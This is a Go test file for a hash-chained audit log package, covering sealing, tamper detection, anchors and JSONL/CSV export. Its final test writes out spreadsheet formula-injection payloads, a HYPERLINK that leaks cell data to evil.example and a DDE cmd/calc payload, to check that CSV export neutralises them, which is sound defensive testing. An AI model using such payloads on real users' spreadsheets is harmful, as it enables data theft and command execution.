package audit_test

import (
	"errors"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/countersign/countersign/audit"
)

// chain seals n entries, each a decision on its own call, after legacy
// entries without a hash.
func chain(t testing.TB, legacy, n int) ([]audit.Entry, audit.Head) {
	t.Helper()
	var out []audit.Entry
	for i := range legacy {
		out = append(out, audit.Entry{ID: fmt.Sprintf("1700000000000-%d", i), Fields: map[string]string{"decision": "approve", "hash": "abc"}})
	}
	var head audit.Head
	for i := range n {
		fields, next, err := audit.Seal(map[string]string{
			"event": "decision", "decision": "approve", "by": "U1", "call": fmt.Sprintf("0.%d", i), "reason": "",
		}, head)
		if err != nil {
			t.Fatal(err)
		}
		head = next
		out = append(out, audit.Entry{ID: fmt.Sprintf("1700000001000-%d", i), Fields: fields})
	}
	return out, head
}

func verify(entries []audit.Entry, head *audit.Head) (audit.Report, error) {
	var v audit.Verifier
	for _, e := range entries {
		if err := v.Add(e); err != nil {
			return v.Finish(head)
		}
	}
	return v.Finish(head)
}

func TestSealChainsEntries(t *testing.T) {
	t.Parallel()
	entries, head := chain(t, 0, 3)
	if head.Seq != 3 || head.Hash != entries[2].Fields["hash"] {
		t.Errorf("head = %+v; want seq 3 and the last entry's hash", head)
	}
	if _, ok := entries[0].Fields["prev"]; ok {
		t.Errorf("first entry %v has a prev", entries[0].Fields)
	}
	if entries[1].Fields["prev"] != entries[0].Fields["hash"] {
		t.Errorf("second entry's prev %q is not the first's hash %q", entries[1].Fields["prev"], entries[0].Fields["hash"])
	}
	if _, ok := entries[0].Fields["reason"]; ok {
		t.Errorf("empty field kept: %v", entries[0].Fields)
	}
	for _, name := range []string{"hash", "prev", "seq", "id", "time", "fields"} {
		if _, _, err := audit.Seal(map[string]string{name: "x"}, head); !errors.Is(err, audit.ErrReservedField) {
			t.Errorf("Seal with field %q = %v, want ErrReservedField", name, err)
		}
	}
}

// The canonical encoding is documented byte for byte: a verifier in
// another language depends on it.
func TestCanonicalIsDocumented(t *testing.T) {
	t.Parallel()
	got := string(audit.Canonical(map[string]string{"seq": "1", "event": "decision", "by": "U1", "hash": "ignored"}))
	want := "countersign-audit-v1\n2:by2:U1\n5:event8:decision\n3:seq1:1\n"
	if got != want {
		t.Errorf("Canonical = %q, want %q", got, want)
	}
}

// Every way of tampering with a chain is found, at the entry where it
// happens, and named.
func TestVerifyFindsTampering(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		tamper func(es []audit.Entry, h *audit.Head) []audit.Entry
		kind   audit.BreakKind
		seq    int64
		detail string
	}{
		{"field changed", func(es []audit.Entry, _ *audit.Head) []audit.Entry {
			es[2].Fields["by"] = "U2"
			return es
		}, audit.Changed, 3, "does not match its hash"},
		{"field added", func(es []audit.Entry, _ *audit.Head) []audit.Entry {
			es[2].Fields["note"] = "x"
			return es
		}, audit.Changed, 3, "does not match its hash"},
		{"entry rewritten with a new hash", func(es []audit.Entry, _ *audit.Head) []audit.Entry {
			es[2].Fields["by"] = "U2"
			es[2].Fields["hash"] = audit.Sum(es[2].Fields)
			return es
		}, audit.Changed, 4, "prev is not the hash of entry 3"},
		{"middle entry deleted", func(es []audit.Entry, _ *audit.Head) []audit.Entry {
			return append(es[:2], es[3:]...)
		}, audit.Missing, 4, "entry 3 is missing"},
		{"two entries swapped", func(es []audit.Entry, _ *audit.Head) []audit.Entry {
			es[1].Fields, es[2].Fields = es[2].Fields, es[1].Fields
			return es
		}, audit.Reordered, 3, "comes before entry 2"},
		{"entry repeated", func(es []audit.Entry, _ *audit.Head) []audit.Entry {
			return append(es[:3], append([]audit.Entry{es[1]}, es[3:]...)...)
		}, audit.Reordered, 2, "comes after entry 3"},
		{"last entry deleted", func(es []audit.Entry, _ *audit.Head) []audit.Entry {
			return es[:4]
		}, audit.Missing, 4, "entry 5 is missing after it"},
		{"first entry deleted", func(es []audit.Entry, _ *audit.Head) []audit.Entry {
			return es[1:]
		}, audit.Missing, 2, "entry 1 is missing before the oldest kept entry"},
		{"entry without a hash inserted", func(es []audit.Entry, _ *audit.Head) []audit.Entry {
			return append(es[:2], append([]audit.Entry{{ID: "x", Fields: map[string]string{"decision": "approve"}}}, es[2:]...)...)
		}, audit.Inserted, 0, "added outside the chain"},
		{"chain started over", func(es []audit.Entry, h *audit.Head) []audit.Entry {
			fields, next, _ := audit.Seal(map[string]string{"event": "decision"}, audit.Head{})
			*h = next
			return append(es, audit.Entry{ID: "y", Fields: fields})
		}, audit.Reordered, 1, "starts over"},
		{"head replaced", func(es []audit.Entry, h *audit.Head) []audit.Entry {
			h.Hash = strings.Repeat("0", 64)
			return es
		}, audit.Changed, 5, "not the head the store records"},
		{"seq not a number", func(es []audit.Entry, _ *audit.Head) []audit.Entry {
			es[2].Fields["seq"] = "three"
			return es
		}, audit.Changed, 0, "not a positive number"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			entries, head := chain(t, 0, 5)
			entries = tt.tamper(entries, &head)
			_, err := verify(entries, &head)
			var b *audit.BreakError
			if !errors.As(err, &b) || b.Kind != tt.kind || b.Seq != tt.seq || !strings.Contains(b.Detail, tt.detail) {
				t.Errorf("verify = %v; want a %s break at seq %d saying %q", err, tt.kind, tt.seq, tt.detail)
			}
		})
	}
}

func TestVerifyAcceptsAnIntactChain(t *testing.T) {
	t.Parallel()
	entries, head := chain(t, 2, 5)
	rep, err := verify(entries, &head)
	if err != nil || rep.Entries != 5 || rep.Before != 2 || rep.First != 1 || rep.Last != (audit.Head{Hash: head.Hash, Seq: 5}) {
		t.Errorf("verify = %+v, %v; want 5 entries after 2 without a hash, up to the head", rep, err)
	}
	// Retention removed the first two: their successor's prev is the
	// anchor, and the head says they were trimmed.
	head.Trimmed = 2
	rep, err = verify(entries[4:], &head)
	if err != nil || rep.Entries != 3 || rep.First != 3 || rep.Trimmed != 2 {
		t.Errorf("verify after retention = %+v, %v; want entries 3 to 5", rep, err)
	}
	// Everything trimmed, or nothing written yet.
	if _, err := verify(nil, &audit.Head{Hash: head.Hash, Seq: 5, Trimmed: 5}); err != nil {
		t.Errorf("verify of a chain trimmed entirely = %v", err)
	}
	if _, err := verify(nil, &audit.Head{}); err != nil {
		t.Errorf("verify of no chain = %v", err)
	}
	if _, err := verify(nil, &audit.Head{Hash: head.Hash, Seq: 5, Trimmed: 3}); err == nil {
		t.Error("verify of a chain whose kept entries are gone passed")
	}
	// An export (no head): the first entry is the anchor.
	if rep, err := verify(entries[4:], nil); err != nil || rep.First != 3 {
		t.Errorf("verify of an export = %+v, %v", rep, err)
	}
}

func TestExportRoundTrip(t *testing.T) {
	t.Parallel()
	entries, _ := chain(t, 1, 3)
	entries[2].Fields["reason"] = "line one\r\nline two, \"quoted\"\n<b>&</b>"
	entries[2].Fields["args"] = `{"url":"https://example.com/?a=1&b=2"}`
	entries[2].Fields["hash"] = audit.Sum(entries[2].Fields) // breaks the chain after it; fine for a round trip
	for _, f := range []audit.Format{audit.JSONL, audit.CSV} {
		t.Run(string(f), func(t *testing.T) {
			var b strings.Builder
			w := audit.NewWriter(&b, f)
			for _, e := range entries {
				if err := w.Write(e); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			got := readAll(t, b.String(), f)
			if len(got) != len(entries) {
				t.Fatalf("read %d entries back, wrote %d:\n%s", len(got), len(entries), b.String())
			}
			for i := range got {
				if got[i].ID != entries[i].ID || !maps.Equal(got[i].Fields, entries[i].Fields) {
					t.Errorf("entry %d read back as %+v, want %+v", i, got[i], entries[i])
				}
			}
			if f == audit.JSONL {
				first := strings.SplitN(b.String(), "\n", 3)[1]
				if !strings.HasPrefix(first, `{"id":"1700000001000-0","time":"2023-11-14T22:13:21Z","seq":"1","event":"decision","call":"0.0","by":"U1",`) ||
					!strings.HasSuffix(first, `,"hash":"`+entries[1].Fields["hash"]+`"}`) {
					t.Errorf("JSON line starts %s; want id, time, seq, event, call first", first)
				}
			}
		})
	}
}

func readAll(t *testing.T, s string, f audit.Format) []audit.Entry {
	t.Helper()
	r := audit.NewReader(strings.NewReader(s), f)
	var out []audit.Entry
	for {
		e, err := r.Read()
		if err != nil {
			if err.Error() != "EOF" {
				t.Fatalf("Read: %v", err)
			}
			return out
		}
		out = append(out, e)
	}
}

func TestReaderRefusesWhatWriterDoesNotWrite(t *testing.T) {
	t.Parallel()
	tests := []struct {
		format audit.Format
		in     string
	}{
		{audit.JSONL, `{"id":"1-0","seq":1}`},
		{audit.JSONL, `{"id":"1-0","by":"a","by":"b"}`},
		{audit.JSONL, `{"id":"1-0"} {}`},
		{audit.JSONL, `["id"]`},
		{audit.CSV, "id,seq\n1-0,1\n"},
		{audit.CSV, ""},
		{audit.CSV, "id,time,seq,event,thread,call,tool,decision,outcome,by,args_hash,reason,other,prev,hash\n1-0,,1,,,,,,,U1,,,\"{\"\"by\"\":\"\"U2\"\"}\",,\n"},
		{audit.CSV, "id,time,seq,event,thread,call,tool,decision,outcome,by,args_hash,reason,other,prev,hash\n1-0,,1,,,,,,,'U1,,,,,\n"},
		{audit.CSV, "id,time,seq,event,thread,call,tool,decision,outcome,by,args_hash,reason,other,prev,hash\n1-0,,1,,,,,,,',,,,,\n"},
	}
	for _, tt := range tests {
		r := audit.NewReader(strings.NewReader(tt.in), tt.format)
		var err error
		for err == nil {
			_, err = r.Read()
		}
		if !errors.Is(err, audit.ErrMalformed) {
			t.Errorf("Read(%s %q) = %v; want ErrMalformed", tt.format, tt.in, err)
		}
	}
}

// rechain rewrites entries from index i on as someone with write access
// to the store would: each sealed again after the one before it, so that
// the chain verifies on its own.
func rechain(t *testing.T, entries []audit.Entry, i int) []audit.Entry {
	t.Helper()
	out := make([]audit.Entry, len(entries))
	for j, e := range entries {
		out[j] = audit.Entry{ID: e.ID, Fields: maps.Clone(e.Fields)}
	}
	head := audit.Head{}
	if i > 0 {
		seq, _ := out[i-1].Seq()
		head = audit.Head{Seq: seq, Hash: out[i-1].Fields["hash"]}
	}
	for j := i; j < len(out); j++ {
		fields := maps.Clone(out[j].Fields)
		for _, k := range []string{"seq", "prev", "hash"} {
			delete(fields, k)
		}
		sealed, next, err := audit.Seal(fields, head)
		if err != nil {
			t.Fatal(err)
		}
		out[j].Fields, head = sealed, next
	}
	return out
}

// A chain rewritten from some entry on verifies on its own, but not
// against an anchor at or after that entry; an anchor the chain does not
// reach, or that is older than its oldest entry, is not held either.
func TestVerifyAgainstAnAnchor(t *testing.T) {
	t.Parallel()
	entries, head := chain(t, 0, 5)
	original, _ := head.Anchor()
	anchor := func(i int) audit.Anchor {
		return audit.Anchor{Seq: int64(i + 1), Hash: entries[i].Fields["hash"]}
	}
	rewritten := slices.Clone(entries)
	rewritten[2] = audit.Entry{ID: entries[2].ID, Fields: maps.Clone(entries[2].Fields)}
	rewritten[2].Fields["reason"] = "nobody approved this"
	rewritten = rechain(t, rewritten, 2)
	newHead := audit.Head{Seq: 5, Hash: rewritten[4].Fields["hash"]}
	if _, err := verify(rewritten, &newHead); err != nil {
		t.Fatalf("verify of the rewritten chain without an anchor = %v; want it to pass (that is the hole)", err)
	}

	tests := []struct {
		name    string
		entries []audit.Entry
		head    *audit.Head
		anchors []audit.Anchor
		want    string // "" to pass
	}{
		{"intact, its own head", entries, &head, []audit.Anchor{original}, ""},
		{"intact export, an older anchor", entries, nil, []audit.Anchor{anchor(1), original}, ""},
		{"rewritten, the original head", rewritten, &newHead, []audit.Anchor{original}, "its entry 5 (" + entries[4].ID + ") has the hash " + rewritten[4].Fields["hash"]},
		{"rewritten export, the original head", rewritten, nil, []audit.Anchor{original}, "the chain was rewritten at or before that entry"},
		{"rewritten export, the rewritten entry", rewritten, nil, []audit.Anchor{anchor(2)}, "its entry 3"},
		{"rewritten export, an entry before the rewrite", rewritten, nil, []audit.Anchor{anchor(1)}, ""},
		{"export that ends before the anchor", entries[:3], nil, []audit.Anchor{original}, "the trail ends at entry 3, before it"},
		{"export that starts after the anchor", entries[2:], nil, []audit.Anchor{anchor(0)}, "the trail starts at entry 3, after it"},
		{"anchor trimmed by retention", entries[2:], &audit.Head{Seq: 5, Hash: head.Hash, Trimmed: 2}, []audit.Anchor{anchor(0)}, "retention removed entries up to 2"},
		{"no entries", nil, nil, []audit.Anchor{original}, "no hash-chained entry"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := audit.Verifier{Anchors: tt.anchors}
			for _, e := range tt.entries {
				if err := v.Add(e); err != nil {
					t.Fatalf("Add(%s) = %v", e.ID, err)
				}
			}
			_, err := v.Finish(tt.head)
			var ae *audit.AnchorError
			switch {
			case tt.want == "" && err != nil:
				t.Errorf("Finish = %v; want the anchors held", err)
			case tt.want != "" && (!errors.As(err, &ae) || !strings.Contains(ae.Error(), tt.want)):
				t.Errorf("Finish = %v; want an AnchorError saying %q", err, tt.want)
			}
		})
	}
}

func TestParseAnchor(t *testing.T) {
	t.Parallel()
	hash := strings.Repeat("9c1f", 16)
	if a, err := audit.ParseAnchor(" 1799:" + strings.ToUpper(hash) + "\n"); err != nil || a != (audit.Anchor{Seq: 1799, Hash: hash}) || a.String() != "1799:"+hash {
		t.Errorf("ParseAnchor = %+v, %v; want seq 1799 and the hash in lower case", a, err)
	}
	for _, s := range []string{"", "1799", "1799:", ":" + hash, "0:" + hash, "-1:" + hash, "x:" + hash, "1799:" + hash[:63], "1799:" + hash + "0", "1799:" + hash[:63] + "g"} {
		if _, err := audit.ParseAnchor(s); !errors.Is(err, audit.ErrBadAnchor) {
			t.Errorf("ParseAnchor(%q) = %v; want ErrBadAnchor", s, err)
		}
	}
}

// A reason a person typed, or any field, that a spreadsheet would take
// for a formula is written as text: quoted, after a single quote; it
// reads back as it was, and the entry still verifies.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	t.Parallel()
	entries, _ := chain(t, 0, 2)
	const formula = `=HYPERLINK("https://evil.example/?d="&B2&C2,"Click for details")`
	entries[0].Fields["reason"] = formula
	entries[0].Fields["by"] = "@SUM(1+1)*cmd|' /C calc'!A0"
	entries[0].Fields["note"] = "-2+3" // a field in other, as JSON
	entries[0].Fields["tool"] = "'quoted"
	entries[0].Fields["thread"] = "\tT1;=1+1"
	entries = rechain(t, entries, 0)
	out := writeAll(t, entries, audit.CSV)
	if !strings.Contains(out, `"'=HYPERLINK(""https://evil.example/?d=""&B2&C2,""Click for details"")"`) {
		t.Errorf("CSV export:\n%s\nwant the formula after a single quote, in a quoted cell", out)
	}
	noFormulas(t, out)
	got := readAll(t, out, audit.CSV)
	if !sameEntries(got, entries) {
		t.Errorf("read back %+v, want %+v", got, entries)
	}
	if _, err := verify(got, nil); err != nil {
		t.Errorf("verify of the CSV export = %v", err)
	}
}
